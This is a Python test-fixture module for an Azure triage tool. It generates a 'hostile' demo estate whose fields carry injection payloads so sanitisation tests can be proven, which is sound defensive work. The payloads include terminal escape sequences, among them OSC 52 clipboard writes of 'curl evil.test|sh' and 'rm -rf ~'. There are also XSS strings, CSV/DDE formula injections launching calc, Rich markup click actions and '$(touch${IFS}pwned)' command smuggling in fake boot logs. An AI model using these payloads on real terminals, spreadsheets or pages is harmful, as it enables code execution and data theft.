"""The hostile estate: the demo estate with attacker-controlled text in every field that carries it.

aztriage shows text that others write: the tenant (subscription display names, tags,
NSG rule descriptions), Azure (Resource Health titles, summaries and recommended
actions; Service Health titles, headers, updates and service names), the guest (VM
agent version and status strings, the serial console log and the screenshot drawn
from it, and what its interactive serial console prints) and whoever answers on a probed address (the SSH identification line, the
RDP reply). Here each of those fields holds payloads of every class in
:data:`CLASSES`, generated per class from a seeded random source, so a test that
checks the *class* of what comes out (no C0 but newline and tab, no DEL, no C1, no
bidi control; no markup interpreted; Markdown and CSV cells escaped) proves the class
and not a handful of strings.

Names stay as the demo has them: ARM restricts resource, resource group and NSG rule
names to letters, digits and a few punctuation marks, so no control can be in one.

    load_estate("hostile")                      # or: aztriage --demo --demo-estate hostile ...
    hostile.payload("osc52", random.Random(1))  # one payload of one class
    hostile.hostile_line(rng, "Ready")          # a field's value: every class around a word
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from datetime import datetime

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

# C0 controls other than those with a class of their own (and newline and tab, which are text).
_OTHER_C0 = [chr(c) for c in range(0x01, 0x20) if chr(c) not in "\n\t\x07\x08\r\x1b"]
BIDI = [chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad"]
CSV_STARTERS = ["=", "+", "-", "@", "\t", "\r"]


def _word(rng: random.Random) -> str:
    return rng.choice(["pwned", "calc", "evil", "x", "owned", "0wn3d"]) + str(rng.randrange(100))


def _csi(rng: random.Random) -> str:
    return ESC + "[" + rng.choice(["2J", "H", "31;1m", "?1049h", "1;1H", "K", "6n", "3J", "?25l", "8;1;1t"])


def _osc0(rng: random.Random) -> str:
    return ESC + "]0;" + _word(rng) + rng.choice([BEL, ST])


def _osc8(rng: random.Random) -> str:
    url = rng.choice(["https://evil.test/", "file:///etc/passwd", "javascript:alert(1)"])
    return f"{ESC}]8;;{url}{ST}{_word(rng)}{ESC}]8;;{ST}"


def _osc52(rng: random.Random) -> str:
    clip = base64.b64encode(rng.choice([b"curl evil.test|sh\n", b"rm -rf ~\n", b"sudo -i\n"])).decode()
    return f"{ESC}]52;{rng.choice(['c', 'p', 's0'])};{clip}{rng.choice([BEL, ST])}"


def _dcs(rng: random.Random) -> str:
    return ESC + "P" + rng.choice(['$q"p', "1$r0m", "+q544e"]) + _word(rng) + ST


def _c1(rng: random.Random) -> str:
    # One 8-bit control of U+0080-U+009F; CSI (U+009B) and OSC (U+009D) with a sequence after them.
    cp = rng.randrange(0x80, 0xA0)
    tail = {0x9B: "2J", 0x9D: "0;" + _word(rng) + "\x9c", 0x90: "q\x9c"}.get(cp, "")
    return chr(cp) + tail


def _bel(rng: random.Random) -> str:
    return BEL * rng.randrange(1, 4)


def _bs(rng: random.Random) -> str:
    return "\x08" * rng.randrange(1, 9) + _word(rng)


def _cr(rng: random.Random) -> str:
    return "\r" + rng.choice(["OK", "Ready", "Available"])


def _del(rng: random.Random) -> str:
    return "\x7f" * rng.randrange(1, 3)


def _nul(rng: random.Random) -> str:
    return "\x00" * rng.randrange(1, 3)


def _c0(rng: random.Random) -> str:
    return rng.choice(_OTHER_C0)


def _bidi(rng: random.Random) -> str:
    return rng.choice(BIDI) + _word(rng)[::-1] + rng.choice(["\u202c", "\u2069"])


def _zero_width(rng: random.Random) -> str:
    return rng.choice(ZERO_WIDTH).join(_word(rng))


def _line_separator(rng: random.Random) -> str:
    return rng.choice(["\u2028", "\u2029", "\u0085"])


# Rich / Textual markup: a style, a link, actions run on a click. Shown as it is written when
# it is not parsed (so a check can look for its brackets on the screen).
RICH_MARKUP = [
    "[bold red]MARKUP[/bold red]",
    "[link=file:///etc/passwd]MARKUP[/link]",
    "[@click=app.quit]MARKUP[/]",
    "[@click=app.screenshot('pwned.svg')]MARKUP[/]",
    "[reverse blink]MARKUP",
]


def _rich_markup(rng: random.Random) -> str:
    return rng.choice(RICH_MARKUP)


def _markdown_html(rng: random.Random) -> str:
    return rng.choice(
        [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click me](javascript:alert(1))",
            '<a href="javascript:alert(1)">x</a>',
            "a | b | c",
            "`$(id)` ``` ",
            "![x](javascript:alert(1))",
            "<iframe src=//evil.test>",
        ]
    )


def _csv_formula(rng: random.Random) -> str:
    starter = rng.choice(CSV_STARTERS)
    return starter + rng.choice(['=HYPERLINK("https://evil.test","x")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd|'/C calc'!A0", "1+1"])


# class name -> generator. A payload of class "csv_formula" is only a formula at the start of a cell:
# hostile_line puts one there.
CLASSES: dict[str, Callable[[random.Random], str]] = {
    "csi": _csi,
    "osc0": _osc0,
    "osc8": _osc8,
    "osc52": _osc52,
    "dcs": _dcs,
    "c1": _c1,
    "bel": _bel,
    "bs": _bs,
    "cr": _cr,
    "del": _del,
    "nul": _nul,
    "c0": _c0,
    "bidi": _bidi,
    "zero_width": _zero_width,
    "line_separator": _line_separator,
    "rich_markup": _rich_markup,
    "markdown_html": _markdown_html,
    "csv_formula": _csv_formula,
}

# The classes that are code points a terminal obeys (what no output may carry raw).
CONTROL_CLASSES = ("csi", "osc0", "osc8", "osc52", "dcs", "c1", "bel", "bs", "cr", "del", "nul", "c0", "bidi", "zero_width", "line_separator")


# Every code point a terminal obeys or that hides or reorders text, each by name: C0 (newline and
# tab included: they are text in prose, not in a one-line field), DEL, C1, the bidi embeddings,
# overrides and isolates, zero-width and other invisible format characters, line and paragraph
# separators. The classes above pick among them at random; these name each one, so a check can be
# proven against all of them, and the estate's serial logs and tags carry every one.
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", "\u061c", "\u00ad", "\u2028", "\u2029"]
EVERY_CODE_POINT: dict[str, str] = {
    **{f"c0-{cp:02x}": chr(cp) for cp in range(0x20)},
    "del": "\x7f",
    **{f"c1-{cp:02x}": chr(cp) for cp in range(0x80, 0xA0)},
    **{f"bidi-{ord(ch):04x}": ch for ch in BIDI},
    **{f"invisible-{ord(ch):04x}": ch for ch in INVISIBLE},
}


def payload(cls: str, rng: random.Random) -> str:
    """One payload of one class."""
    return CLASSES[cls](rng)


def hostile_line(rng: random.Random, word: str = "", classes: tuple[str, ...] | None = None) -> str:
    """A field's value: a CSV formula starter first, then ``word`` (so the field still says
    something), then one payload of every class (or of ``classes``) in random order."""
    chosen = [c for c in (classes or tuple(CLASSES)) if c != "csv_formula"]
    rng.shuffle(chosen)
    head = _csv_formula(rng) + " " if classes is None or "csv_formula" in classes else ""
    return head + word + " " + " ".join(payload(c, rng) for c in chosen)


def hostile_text(rng: random.Random, word: str = "") -> str:
    """Multi-line prose (a summary, a description): two hostile lines."""
    return hostile_line(rng, word) + "\n" + hostile_line(rng, "more")


# --- the estate ----------------------------------------------------------------------

_PROSE_KEYS = ("summary", "detailedStatus", "description")
_LINE_KEYS = ("title", "header", "action", "actionUrlText")


def _health(props: dict, rng: random.Random) -> None:
    for key in _LINE_KEYS:
        if isinstance(props.get(key), str):
            props[key] = hostile_line(rng, props[key])
    for key in _PROSE_KEYS:
        if isinstance(props.get(key), str):
            props[key] = hostile_text(rng, props[key])
    for action in props.get("recommendedActions") or []:
        for key in ("action", "actionUrlText"):
            if isinstance(action.get(key), str):
                action[key] = hostile_line(rng, action[key])


def _event(props: dict, rng: random.Random) -> None:
    _health(props, rng)
    article = props.get("article")
    if isinstance(article, dict):
        article["articleContent"] = "<html><p>" + hostile_text(rng, "article") + "</p></html>"
    impact = props.get("impact") or []
    for service in impact:
        for region in service.get("impactedRegions") or []:
            for update in region.get("updates") or []:
                update["summary"] = hostile_text(rng, update.get("summary", ""))
    if impact:  # a service of its own, so the real one still matches the VMs it names
        extra = dict(impact[0])
        extra["impactedService"] = hostile_line(rng, "Virtual Machines")
        extra["impactedServiceGuid"] = "00000000-0000-0000-0000-0000000000ff"
        impact.append(extra)


def _agent(iv: dict, rng: random.Random) -> None:
    agent = iv.get("vmAgent")
    if not isinstance(agent, dict):
        return
    agent["vmAgentVersion"] = hostile_line(rng, str(agent.get("vmAgentVersion", "")))
    for status in agent.get("statuses") or []:
        status["displayStatus"] = hostile_line(rng, status.get("displayStatus", ""))
        status["message"] = hostile_text(rng, status.get("message", ""))
    for handler in agent.get("extensionHandlers") or []:
        handler["typeHandlerVersion"] = hostile_line(rng, handler.get("typeHandlerVersion", ""))
        status = handler.get("status")
        if isinstance(status, dict):
            status["displayStatus"] = hostile_line(rng, status.get("displayStatus", ""))
            status["message"] = hostile_text(rng, "extension")


def serial_lines(rng: random.Random) -> str:
    """Log lines with payloads of every class, some where the boot analysis takes a fact
    (kernel release, root device, the device a boot waited for, a panic reason, an sshd path)."""
    lines = [
        f"[    0.000000] Linux version 6.8.0-1015-azure{hostile_line(rng, '')} (buildd@lcy02) #16 SMP",
        f"[    0.000000] Command line: BOOT_IMAGE=/boot/vmlinuz root=PARTUUID=$(touch${{IFS}}pwned);{payload('osc52', rng)} ro console=ttyS0",
        f"[ TIME ] Timed out waiting for device /dev/disk/by-uuid/x;touch${{IFS}}pwned;#{payload('csi', rng)}.",
        f"[   12.000000] Kernel panic - not syncing: {hostile_line(rng, 'VFS')}",
        f"[   13.000000] sshd[812]: /etc/ssh/sshd_config{payload('bidi', rng)}: line 3: Bad configuration option: {hostile_line(rng, '')}",
    ]
    lines += [f"[   14.{i:06d}] {hostile_line(rng, cls, (cls,))}" for i, cls in enumerate(CLASSES)]
    lines += [f"[   15.{i:06d}] {name}: <{ch}>" for i, (name, ch) in enumerate(EVERY_CODE_POINT.items()) if ch != "\n"]
    return "\n".join(lines) + "\n"


def ssh_banner(rng: random.Random, cls: str) -> str:
    """An SSH identification line (at most 255 bytes with CR LF) carrying one class."""
    line = "SSH-2.0-OpenSSH_9.6 " + payload(cls, rng)
    return line.encode()[:240].decode("utf-8", "ignore").replace("\n", " ")


def rdp_reply(rng: random.Random, cls: str) -> str:
    """What a hostile peer on an RDP port answers instead of an X.224 Connection Confirm."""
    return "HTTP/1.1 400 " + payload(cls, rng) + hostile_line(rng, "Bad Request")


def build(now: datetime, *, seed: int = 14) -> dict:
    from . import demo

    rng = random.Random(seed)
    estate = demo.build(now)
    for sub in estate["subscriptions"]:
        sub["displayName"] = hostile_line(rng, sub.get("displayName", ""))
    for group in estate.get("resourceGroups") or []:
        group.setdefault("tags", {})["note"] = hostile_line(rng, "group")
    control = list(CONTROL_CLASSES)
    for i, doc in enumerate(estate["resources"]):
        tags = doc.setdefault("tags", {})
        if isinstance(tags, dict):
            for key in list(tags):
                tags[key] = hostile_line(rng, str(tags[key]))
            # Tag names cannot hold <>%&\?/ (ARM); anything else can.
            tags["owner" + payload(control[i % len(control)], rng)] = hostile_line(rng, "team")
            tags["controls"] = "every one: " + "".join(EVERY_CODE_POINT.values())
        props = doc.get("properties") or {}
        for rule in props.get("securityRules") or []:
            rule.setdefault("properties", {})["description"] = hostile_text(rng, "rule")
        iv = props.get("instanceView")
        if isinstance(iv, dict):
            _agent(iv, rng)
    for status in estate.get("availabilityStatuses") or []:
        _health(status.get("properties") or {}, rng)
    for status in estate.get("availabilityHistory") or []:
        _health(status.get("properties") or {}, rng)
    for event in estate.get("events") or []:
        _event(event.get("properties") or {}, rng)
    # The activity log: a caller is whatever the token's identity is called; the operation's
    # friendly name and the description come from Azure and the tenant.
    for change in estate.get("resourceChanges") or []:
        attrs = (change.get("properties") or {}).get("changeAttributes") or {}
        attrs["changedBy"] = hostile_line(rng, str(attrs.get("changedBy") or "someone"))
        attrs["clientType"] = hostile_line(rng, str(attrs.get("clientType") or "client"))
        for diff in ((change.get("properties") or {}).get("changes") or {}).values():
            diff["newValue"] = hostile_line(rng, str(diff.get("newValue") or "value"))
    for entry in estate.get("activityLog") or []:
        entry["caller"] = hostile_line(rng, str(entry.get("caller") or "caller"))
        entry["description"] = hostile_text(rng, "description")
        for key in ("operationName", "status"):
            if isinstance(entry.get(key), dict):
                entry[key]["localizedValue"] = hostile_line(rng, str(entry[key].get("localizedValue") or key))
    for i, facts in enumerate((estate.get("guest") or {}).values()):
        cls = control[i % len(control)]
        if isinstance(facts.get("serial_log"), str):
            facts["serial_log"] += serial_lines(rng)
        facts["ssh_banner"] = ssh_banner(rng, cls)
        facts["rdp_reply"] = rdp_reply(rng, cls)
        facts["console_issue"] = serial_lines(rng)  # what its serial console prints before the login prompt
    return estate
